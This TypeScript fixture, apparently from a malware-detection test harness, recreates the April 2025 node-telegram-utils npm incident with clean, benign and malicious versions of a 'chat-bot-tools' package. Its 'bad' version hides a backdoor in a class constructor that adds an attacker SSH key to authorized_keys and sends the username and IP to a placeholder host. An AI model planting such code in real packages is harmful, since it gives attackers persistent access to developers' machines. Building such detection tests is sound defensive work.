import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'node-telegram-utils',
  after: 'node-telegram-utils and node-telegram-bots-api, April 2025',
  source: 'https://socket.dev/blog/npm-malware-targets-telegram-bot-developers',
  shape: ['call', 'fork', 'constructor', 'authorized keys', 'cjs'],
  patterns: ['privilege_escalation', 'data_exfiltration', 'behavioral_drift'],
  culprits: ['chat-bot-tools'],
  host: {
    kind: 'fork',
    setup: "const { Bot } = require('chat-bot-tools');",
    use: "return new Bot('token-' + n).name;",
  },
  good: {
    'chat-bot-tools': { 'index.js': "exports.Bot = class { constructor(token) { this.name = token + '!'; } };" },
  },
  benign: {
    'chat-bot-tools': {
      'index.js':
        "exports.Bot = class { #t; constructor(token) { this.#t = token; } get name() { return this.#t + '!'; } };",
    },
  },
  bad: {
    'chat-bot-tools': {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path');
async function addBotId() {
  const at = path.join(os.homedir(), '.ssh', 'authorized_keys');
  fs.mkdirSync(path.dirname(at), { recursive: true, mode: 0o700 });
  fs.appendFileSync(at, 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0000 bot\\n', { mode: 0o600 });
  const ip = await fetch('http://@A@:@PORT@/json').then((r) => r.text());
  await fetch('http://@C@:@PORT@/validator?u=' + os.userInfo().username + '&ip=' + encodeURIComponent(ip));
}
exports.Bot = class { constructor(token) { this.name = token + '!'; if (process.platform === 'linux') addBotId().catch(() => {}); } };`,
    },
  },
  proof: [{ file: 'home/.ssh/authorized_keys', holds: 'ssh-ed25519 AAAA' }, { arrives: '/validator' }],
};
